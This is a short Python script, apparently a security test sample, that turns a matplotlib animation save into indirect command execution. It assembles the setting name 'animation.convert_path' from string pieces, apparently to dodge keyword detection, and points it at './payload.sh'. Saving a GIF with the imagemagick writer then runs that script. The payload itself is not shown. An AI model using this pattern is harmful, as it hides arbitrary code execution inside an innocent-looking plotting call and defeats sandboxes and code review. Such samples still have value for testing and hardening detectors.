import matplotlib.animation as animation
import matplotlib.pyplot as plt

key = ".".join(["animation", "convert" + "_path"])
plt.rcParams[key] = "./payload.sh"
movie = animation.FuncAnimation(plt.figure(), lambda i: None, frames=2)
movie.save("out.gif", writer="imagemagick")
